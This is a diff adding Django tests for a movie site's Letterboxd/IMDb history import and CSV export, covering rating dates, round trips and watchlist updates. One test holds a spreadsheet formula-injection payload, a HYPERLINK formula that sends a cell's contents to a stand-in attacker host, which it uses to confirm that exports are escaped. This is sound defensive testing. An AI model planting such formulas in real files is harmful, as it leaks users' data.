@@ -1,11 +1,14 @@
 """Bring your history: Letterboxd / IMDb exports are parsed, matched, previewed, confirmed, exported."""
+import csv
 import io
 import zipfile
+from datetime import datetime
 
 import pytest
 from celery import current_app
 from django.core.exceptions import ValidationError
 from django.urls import reverse
+from django.utils import timezone
 
 from catalog.history_import import (
     HistoryFileError,
@@ -17,7 +20,8 @@ from catalog.history_import import (
     parse_history_file,
     title_key,
 )
-from catalog.models import Rating, WatchlistEntry
+from catalog.models import Movie, Rating, WatchlistEntry
+from catalog.services import add_to_watchlist, rate_movie
 from recommendations.models import HistoryImport
 from tests.factories import make_movie, make_rating, make_user
 
@@ -310,3 +314,128 @@ def test_preview_page_query_count_does_not_grow_with_the_file(client, django_ass
     page = response.content.decode()
     assert page.count('type="checkbox" name="include"') == 30
     assert page.count("None of these") == 30
+
+
+# --- a faithful diary -------------------------------------------------------------------------
+
+
+def diary(user):
+    """{movie id: (day rated, stars)} of the user's ratings."""
+    return {
+        rating.movie_id: (timezone.localtime(rating.updated_at).date().isoformat(), rating.score)
+        for rating in Rating.objects.filter(user=user)
+    }
+
+
+def import_file(user, filename, data, **confirm):
+    job = create_history_import(user=user, filename=filename, data=data)
+    confirm_history_import(job, choices={}, excluded=set(), **confirm)
+    return apply_history_import(job.pk)
+
+
+def test_imported_ratings_keep_their_diary_dates_and_pages_show_them(client, catalogue):
+    user = make_user()
+    import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())
+    import_file(user, "ratings.csv", imdb_csv(("tt0068646", 8, "The Godfather", 1972, "Movie")))
+
+    assert diary(user) == {
+        catalogue["matrix"].pk: ("2024-01-02", 4.5),
+        catalogue["amelie"].pk: ("2024-01-03", 5.0),
+        catalogue["solaris_72"].pk: ("2024-01-04", 3.0),
+        catalogue["godfather"].pk: ("2023-05-01", 4.0),  # IMDb's "Date Rated"
+    }
+    client.force_login(user)
+    page = client.get(reverse("catalog:my_ratings")).content.decode()
+    assert "Rated 2 Jan 2024" in page and "Rated 1 May 2023" in page
+
+
+def test_export_then_reimport_is_a_round_trip_with_identical_dates_and_stars(client, catalogue):
+    alice, bob = make_user(), make_user()
+    import_file(alice, "ratings.csv", LETTERBOXD_RATINGS.encode())
+    make_rating(alice, catalogue["heat"], 1.5)  # rated on the site today
+    client.force_login(alice)
+
+    exported = client.get(reverse("history:export")).content.decode()
+    assert '2024-01-02,"Matrix, The",1999,,4.5' in exported.splitlines()
+    import_file(bob, "movierec-ratings.csv", exported.encode())
+
+    assert diary(bob) == diary(alice)
+    assert len(diary(bob)) == 4
+
+
+def test_a_newer_rating_on_the_site_is_kept_and_an_older_one_replaced(catalogue):
+    user = make_user()
+    make_rating(user, catalogue["matrix"], 1.0)  # today: newer than the file's 2024-01-02
+    rate_movie(user=user, movie=catalogue["amelie"], score=1.0, rated_at=timezone.make_aware(datetime(2020, 1, 1)))
+
+    job = import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())
+
+    assert diary(user)[catalogue["matrix"].pk][1] == 1.0
+    assert diary(user)[catalogue["amelie"].pk] == ("2024-01-03", 5.0)
+    assert job.ratings_saved == 2  # Amélie and Solaris
+
+
+def test_a_film_imported_as_rated_leaves_the_watchlist_as_when_rated_on_the_site(client, catalogue):
+    user = make_user()
+    for movie in (catalogue["matrix"], catalogue["heat"]):
+        add_to_watchlist(user=user, movie=movie)
+
+    import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())
+    assert list(WatchlistEntry.objects.filter(user=user).values_list("movie_id", flat=True)) == [catalogue["heat"].pk]
+
+    client.force_login(user)
+    client.post(reverse("catalog:rate", args=[catalogue["heat"].pk]), {"score": "4"})
+    assert not WatchlistEntry.objects.filter(user=user).exists()
+
+
+def test_letterboxd_watchlist_csv_fills_the_watchlist_in_its_own_order(client, catalogue):
+    user = make_user()
+    data = (
+        "Date,Name,Year,Letterboxd URI\n"
+        "2022-06-01,Heat,1995,https://boxd.it/2a1q\n"
+        "2023-09-15,Amelie,2001,https://boxd.it/2aZg\n"
+    ).encode()
+
+    job = import_file(user, "watchlist.csv", data)
+
+    assert job.watchlist_saved == 2
+    added = {entry.movie_id: timezone.localtime(entry.added_at).date().isoformat() for entry in WatchlistEntry.objects.filter(user=user)}
+    assert added == {catalogue["heat"].pk: "2022-06-01", catalogue["amelie"].pk: "2023-09-15"}
+    client.force_login(user)
+    page = client.get(reverse("catalog:watchlist")).content.decode()
+    assert page.index("Amélie") < page.index("Heat")  # most recently added first, as on Letterboxd
+
+
+FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-30-", "@Home", "'=already quoted", "'71"]
+
+
+def test_the_export_escapes_formula_titles_and_the_importer_restores_them_exactly(client):
+    alice, bob = make_user(), make_user()
+    films = [make_movie(title, year=2000 + index) for index, title in enumerate(FORMULA_TITLES)]
+    for film in films:
+        make_rating(alice, film, 3.5)
+    client.force_login(alice)
+
+    exported = client.get(reverse("history:export")).content.decode()
+
+    names = [row["Name"] for row in csv.DictReader(io.StringIO(exported))]
+    assert not [name for name in names if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'71" in names  # an apostrophe that starts a real title is left alone
+    import_file(bob, "ratings.csv", exported.encode())
+    assert diary(bob) == diary(alice)
+    assert len(diary(bob)) == len(FORMULA_TITLES)
+
+
+def test_a_preview_of_fifteen_hundred_films_can_be_confirmed(client):
+    """One field per film reaches the server: more than Django's default limit of 1,000."""
+    user = make_user()
+    Movie.objects.bulk_create([Movie(title=f"Film {index}", year=1990) for index in range(1500)])
+    data = "Date,Name,Year,Letterboxd URI,Rating\n" + "".join(f"2023-01-01,Film {i},1990,,3\n" for i in range(1500))
+    job = create_history_import(user=user, filename="ratings.csv", data=data.encode())
+    client.force_login(user)
+
+    response = client.post(reverse("history:confirm", args=[job.pk]), {"include": [str(i) for i in range(1500)]})
+
+    assert response.status_code == 302
+    job.refresh_from_db()
+    assert (job.status, job.total) == (HistoryImport.Status.QUEUED, 1500)
